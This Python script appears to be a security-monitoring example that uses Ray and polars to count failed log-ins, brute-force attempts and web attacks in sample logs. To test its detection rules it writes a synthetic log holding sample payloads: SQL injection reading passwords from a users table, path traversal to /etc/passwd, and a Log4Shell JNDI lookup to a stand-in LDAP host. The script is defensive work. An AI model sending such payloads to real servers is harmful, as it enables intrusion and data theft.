"""What a security team looks at, by Ray: failed log-ins, brute force, attacks on the web, suspicious addresses.

The sample logs hold a night of guessing at passwords; some attacks on the web server are written beside them.
Each batch comes to a few sums in the workers; the driver adds them up.
"""

# ruff: noqa: INP001 - a script

from __future__ import annotations

from typing import TYPE_CHECKING

import polars as pl

import logshed.ray
from clusters import BUILD, HERE, collected, show, start_ray

if TYPE_CHECKING:
    from pathlib import Path

    import pyarrow as pa

LOGS = ("access.log", "auth.log")
MANY = 10
"""Failed log-ins of an address within an hour that are taken for brute force."""
ATTACKS = (
    ("198.51.100.9", "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "sqlmap/1.8"),
    ("198.51.100.9", "/item?id=1%27%20UNION%20SELECT%20name%20FROM%20users--", "sqlmap/1.8"),
    ("198.51.100.23", "/static/../../../../etc/passwd", "curl/8.5.0"),
    ("198.51.100.23", "/?q=${jndi:ldap://192.0.2.66/a}", "curl/8.5.0"),
)
KEYS = ("hour", "client_address", "kind", "what", "level")


def written(folder: Path) -> Path:
    """The attacks as the log of a web server, one a minute."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "attacks.log"
    path.write_text(
        "".join(
            f'{address} - - [20/May/2015:15:0{number}:00 +0000] "GET {url} HTTP/1.1" 404 9 "-" "{agent}"\n'
            for number, (address, url, agent) in enumerate(ATTACKS)
        ),
        "utf-8",
    )
    return path


def signals(batch: pa.Table) -> pa.Table:
    """What is worth a look in records with their findings: failed and good log-ins, and what rules found.

    Args:
        batch: Rows of ``logs`` with ``findings``.
    """
    rows = pl.DataFrame(pl.from_arrow(batch)).with_columns(hour=pl.col("timestamp").dt.truncate("1h"))
    logins = rows.filter(pl.col("event_name") == "login").select(
        "hour",
        "client_address",
        kind=pl.lit("log-in"),
        what="event_outcome",
        level=pl.lit(None, pl.String),
    )
    found = rows.explode("findings").drop_nulls("findings").with_columns(pl.col("findings").struct.unnest())
    attacks = found.select("hour", "client_address", kind=pl.lit("attack"), what="rule_title", level="level")
    return pl.concat([logins, attacks]).group_by(KEYS).len("records").to_arrow()


def figures(sums: pl.DataFrame) -> dict[str, pl.DataFrame]:
    """The tables, from the sums of all batches."""
    sums = sums.group_by(KEYS).agg(pl.col("records").sum())
    failed = sums.filter((pl.col("kind") == "log-in") & (pl.col("what") == "failure"))
    good = sums.filter((pl.col("kind") == "log-in") & (pl.col("what") == "success"))
    brute = failed.filter(pl.col("records") >= MANY)
    attacks = sums.filter(pl.col("kind") == "attack")
    suspicious = pl.concat([brute.select("hour", "client_address"), attacks.select("hour", "client_address")])
    entered = good.group_by("client_address").agg(got_in=pl.col("records").sum() > 0)
    return {
        "Failed log-ins": failed.group_by("client_address")
        .agg(pl.col("records").sum().alias("failed"), pl.col("hour").min().alias("since"))
        .sort("failed", "client_address", descending=[True, False]),
        f"Brute force: {MANY} failed log-ins or more within an hour": brute.join(
            entered, on="client_address", how="left"
        )
        .select("hour", "client_address", failed="records", got_in=pl.col("got_in").fill_null(value=False))
        .sort("hour", "client_address"),
        "Attacks on the web": attacks.group_by("what", "level")
        .agg(pl.col("records").sum(), pl.col("client_address").n_unique().alias("addresses"))
        .sort("records", "what", descending=[True, False]),
        "Suspicious addresses by hour": suspicious.group_by("hour")
        .agg(pl.col("client_address").n_unique().alias("addresses"))
        .sort("hour"),
    }


def main() -> None:
    """Read the logs, look for rules in them, and print the tables."""
    start_ray()
    logs = logshed.ray.read_logs([*(HERE / name for name in LOGS), written(BUILD / "soc")])
    found = logs.map_batches(logshed.ray.Detect(["web_*"]), batch_format="pyarrow", batch_size=None)
    sums = collected(found.map_batches(signals, batch_format="pyarrow", batch_size=None))
    for title, rows in figures(sums).items():
        show(title, rows)


if __name__ == "__main__":
    main()
